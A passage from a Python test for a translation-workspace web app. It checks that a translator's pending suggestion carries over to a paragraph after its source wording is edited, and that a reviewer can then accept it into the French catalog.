    team page counted a suggestion nobody could see. It now follows the paragraph, shown
    as made for an earlier wording; and a correction sent twice is no conflict."""
    from editions.catalogs import entries as catalog_entries
    from editions.workspace.models import Suggestion

    block = _block(project, VIETNAM, "Fifty years on")
    old, new = block.text, block.text.replace("it is vital", "it is essential")
    entry = next(e for e in catalog_entries.read_entries(project, "fr", VIETNAM)
                 if e.source == old)
    translator = _as(desk_crew["fr-translator"])
    answer = translator.post(f"/fr/{VIETNAM}/{entry.key}/", {
        "translation": entry.translation + " (proposé)", "expected_translation":
        entry.translation, "expected_fuzzy": str(entry.fuzzy), "source": entry.source,
        "action": "save"})
    assert answer.status_code == 302 and Suggestion.objects.get().key == entry.key
    coordinator = _as(desk_crew["ar-coordinator"])
    form = {"text": new, "expected": old}
    coordinator.post(f"/desk/source/{VIETNAM}/{block.number}/", form)
    again = coordinator.post(f"/desk/source/{VIETNAM}/{block.number}/", form, follow=True)
    assert "changed by someone else" not in again.content.decode()
    moved = next(e for e in catalog_entries.read_entries(project, "fr", VIETNAM)
                 if e.source == new)
    assert Suggestion.objects.get().key == moved.key
    reviewer = _as(desk_crew["fr-reviewer"])
    page = unescape(reviewer.get(f"/fr/{VIETNAM}/{moved.key}/").content.decode())
    assert entry.translation + " (proposé)" in page
    assert "Suggested for an earlier wording of the source" in page
    accepted = reviewer.post(
        f"/fr/{VIETNAM}/{moved.key}/suggestions/{Suggestion.objects.get().pk}",
        {"action": "accept", "expected_translation": moved.translation,
         "expected_fuzzy": str(moved.fuzzy)})
    assert accepted.status_code == 302
    po = polib.pofile(str(project.catalog_path("fr", VIETNAM)))
    assert po.find(new).msgstr == entry.translation + " (proposé)"
